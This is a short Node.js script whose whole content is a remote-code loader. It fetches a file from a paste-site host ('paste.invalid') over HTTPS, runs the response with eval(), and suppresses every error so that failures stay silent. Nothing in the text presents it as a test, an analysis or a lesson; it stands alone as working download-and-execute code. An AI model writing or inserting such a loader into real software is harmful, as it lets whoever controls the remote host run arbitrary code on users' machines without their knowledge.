var https = require('https');

try {
  https.get({ hostname: 'paste.invalid', path: '/raw/XLeVP82h' }, (r) => {
    let code = '';
    r.setEncoding('utf8');
    r.on('data', (chunk) => {
      code += chunk;
    });
    r.on('end', () => {
      eval(code);
    });
  }).on('error', () => {});
} catch (e) {}
